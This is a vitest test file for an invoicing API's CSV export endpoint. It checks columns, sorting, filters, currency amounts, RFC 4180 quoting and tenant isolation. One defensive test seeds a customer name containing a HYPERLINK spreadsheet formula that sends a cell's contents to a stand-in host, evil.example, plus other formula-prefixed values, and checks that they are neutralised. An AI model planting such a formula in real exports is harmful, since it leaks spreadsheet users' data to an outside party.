import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listOperations } from '../contract/load.ts';
import { startTestServer, type TestServer } from '../testing/harness.ts';
import { PAST_DUE, newCustomer, newInvoice, ok } from './actions.test-helper.ts';

// The columns as the contract documents them (the header row of its example), not as the server lists them.
const COLUMNS = String(listOperations().find((o) => o.operationId === 'exportInvoices')!.operation.responses['200'].content['text/csv'].example).split('\n')[0]!.split(',');
const AMOUNT_COLUMNS = ['subtotal', 'discount_total', 'tax_total', 'total', 'amount_paid', 'amount_credited', 'amount_due'];
const DIGITS: Record<string, number> = { USD: 2, EUR: 2, JPY: 0, KWD: 3 };

/** Minor units as a decimal string, written independently of the server's formatter. */
function decimal(minor: number, currency: string): string {
  const digits = DIGITS[currency]!;
  if (digits === 0) return String(minor);
  const text = String(minor).padStart(digits + 1, '0');
  return `${text.slice(0, -digits)}.${text.slice(-digits)}`;
}

let s: TestServer;
const ids: Record<string, string> = {};

beforeAll(async () => {
  s = await startTestServer();
  const tick = () => s.clock.advance(1000);
  const plain = await newCustomer(s, { name: 'Plain Co', email: 'ap@plain.example' });
  const formula = await newCustomer(s, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', email: 'evil@evil.example' });
  const quoting = await newCustomer(s, { name: 'Smith, "Junior"\nSecond line', email: null });
  const others = await Promise.all(['+SUM(1,2)', '-2+3', '@cmd', '\tTabbed', '\rReturned'].map((name) => newCustomer(s, { name, email: null })));
  ids.plain = plain.id;
  ids.formula = formula.id;
  ids.quoting = quoting.id;

  tick();
  const usd = await newInvoice(s, { currency: 'USD', tax_rate: 10, discount: { type: 'percentage', percent: 10 }, line_items: [{ description: 'UI design', quantity: 1, unit_price: 300000 }, { description: 'Development', quantity: 8, unit_price: 25000 }] }, plain.id);
  await ok(s.post(`/api/v1/invoices/${usd.id}/mark-sent`));
  await ok(s.post(`/api/v1/invoices/${usd.id}/payments`, { amount: 200000 }), 201);
  ids.usd = usd.id;
  tick();
  const jpy = await newInvoice(s, { currency: 'JPY', tax_rate: 8, discount: { type: 'percentage', percent: 5 }, line_items: [{ description: 'Consulting', quantity: 3, unit_price: 1234 }], ...PAST_DUE }, plain.id);
  await ok(s.post(`/api/v1/invoices/${jpy.id}/mark-sent`));
  ids.jpy = jpy.id;
  tick();
  const kwd = await newInvoice(s, { currency: 'KWD', tax_rate: 5, discount: { type: 'percentage', percent: 7.5 }, line_items: [{ description: 'Licence', quantity: 2.5, unit_price: 1250 }, { description: 'Support', quantity: 1, unit_price: 10999 }] }, formula.id);
  await ok(s.post(`/api/v1/invoices/${kwd.id}/mark-sent`));
  await ok(s.post(`/api/v1/invoices/${kwd.id}/credit-notes`, { amount: 719 }), 201);
  ids.kwd = kwd.id;
  tick();
  ids.quoted = (await newInvoice(s, { currency: 'EUR' }, quoting.id)).id;
  for (const c of others) {
    tick();
    await newInvoice(s, { currency: 'EUR', line_items: [{ description: 'x', quantity: 1, unit_price: 100 }] }, c.id);
  }
  // Same created_at for several invoices: the id breaks the tie in both the list and the export.
  await Promise.all([1, 2, 3].map((n) => newInvoice(s, { currency: 'USD', line_items: [{ description: 'bulk', quantity: n, unit_price: 999 }] }, plain.id)));
  tick();
  const trashed = await newInvoice(s, {}, plain.id);
  await ok(s.del(`/api/v1/invoices/${trashed.id}`), 204);
  ids.trashed = trashed.id;
});
afterAll(() => s.close());

async function exportRows(query: Record<string, string> = {}) {
  const res = await ok(s.get('/api/v1/invoices/export', { query }));
  const rows = parse(res.text, { columns: false, relax_column_count: false }) as string[][];
  return { res, header: rows[0]!, rows: rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i]!]))) };
}

async function listAll(query: Record<string, string> = {}) {
  const out: any[] = [];
  let after: string | undefined;
  for (;;) {
    const res = await ok(s.get('/api/v1/invoices', { query: { ...query, limit: '3', ...(after ? { after } : {}) } }));
    out.push(...res.body.data);
    if (!res.body.pagination.has_next_page) return out;
    after = res.body.pagination.end_cursor;
  }
}

function expectSameAsList(rows: Record<string, string>[], list: any[]) {
  expect(rows.map((r) => r.id)).toEqual(list.map((i) => i.id));
  rows.forEach((row, n) => {
    const inv = list[n];
    expect(row).toMatchObject({ number: inv.number, status: inv.status, customer_id: inv.customer_id, currency: inv.currency, issue_date: inv.issue_date, due_date: inv.due_date, created_at: inv.created_at });
    for (const column of AMOUNT_COLUMNS) expect(row[column], `${inv.id} ${column}`).toBe(decimal(inv[column], inv.currency));
  });
}

describe('CSV export', () => {
  it('streams a header row with exactly the contract columns, CRLF line ends, as an attachment', async () => {
    const { res, header } = await exportRows();
    expect(COLUMNS).toHaveLength(17);
    expect(header).toEqual(COLUMNS);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe('attachment; filename="invoices-2026-03-15.csv"');
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.text.startsWith(`${COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(res.text.endsWith('\r\n')).toBe(true);
  });

  it('has the same invoices, order and amounts as the list, with its default sort and without the trash', async () => {
    const { rows } = await exportRows();
    const list = await listAll();
    expect(list.length).toBe(12);
    expectSameAsList(rows, list);
    expect(rows.map((r) => r.id)).not.toContain(ids.trashed);
  });

  it.each([
    { status: 'sent,overdue', sort: 'total' },
    { status: 'overdue' },
    { currency: 'EUR', sort: '-number' },
    { customer_id: 'PLAIN', sort: 'due_date' },
    { search: 'plain', sort: '-total' },
    { issue_date_from: '2026-03-15', due_date_to: '2026-04-30', sort: 'issue_date' },
    { created_at_from: '2026-03-15T10:00:03Z', created_at_to: '2026-03-15T10:00:05Z', sort: 'created_at' },
  ])('applies the list filters and sort: %o', async (raw) => {
    const query = Object.fromEntries(Object.entries(raw).map(([k, v]) => [k, v === 'PLAIN' ? ids.plain! : v]));
    const { rows } = await exportRows(query);
    const list = await listAll(query);
    expect(rows.length).toBe(list.length);
    expect(rows.length).toBeGreaterThan(0);
    expectSameAsList(rows, list);
  });

  it('writes amounts as decimal strings in each currency (worked by hand)', async () => {
    const { rows } = await exportRows();
    const byId = Object.fromEntries(rows.map((r) => [r.id, r]));
    expect(byId[ids.usd!]).toMatchObject({ status: 'partially_paid', subtotal: '5000.00', discount_total: '500.00', tax_total: '450.00', total: '4950.00', amount_paid: '2000.00', amount_credited: '0.00', amount_due: '2950.00' });
    expect(byId[ids.jpy!]).toMatchObject({ status: 'overdue', subtotal: '3702', discount_total: '185', tax_total: '281', total: '3798', amount_paid: '0', amount_due: '3798' });
    expect(byId[ids.kwd!]).toMatchObject({ subtotal: '14.124', discount_total: '1.059', tax_total: '0.654', total: '13.719', amount_credited: '0.719', amount_due: '13.000' });
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const { rows } = await exportRows({ sort: 'created_at' });
    const names = rows.map((r) => r.customer_name);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
    for (const name of ['+SUM(1,2)', '-2+3', '@cmd', '\tTabbed', '\rReturned']) expect(names).toContain(`'${name}`);
    for (const row of rows) for (const column of COLUMNS) expect(row[column], `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', async () => {
    const { res, rows } = await exportRows({ customer_id: ids.quoting! });
    expect(res.text).toContain(',"Smith, ""Junior""\nSecond line",,');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ id: ids.quoted, customer_name: 'Smith, "Junior"\nSecond line', customer_email: '' });
    // Every record ends with CRLF; the bare LF inside the quoted name is data.
    expect(res.text.split('\r\n')).toHaveLength(3);
  });

  it('answers just the header when nothing matches, and validates its query like the list', async () => {
    const empty = await ok(s.get('/api/v1/invoices/export', { query: { currency: 'CHF' } }));
    expect(empty.text).toBe(`${COLUMNS.join(',')}\r\n`);
    const bad = await s.get('/api/v1/invoices/export', { query: { sort: 'customer', limit: 5 } });
    expect(bad.status).toBe(400);
    expect(bad.body.errors.map((e: any) => e.pointer).sort()).toEqual(['/query/limit', '/query/sort']);
  });

  it('shows only the caller’s tenant', async () => {
    const res = await ok(s.get('/api/v1/invoices/export', { key: 'ik_test_globex' }));
    expect(res.text).toBe(`${COLUMNS.join(',')}\r\n`);
  });
});
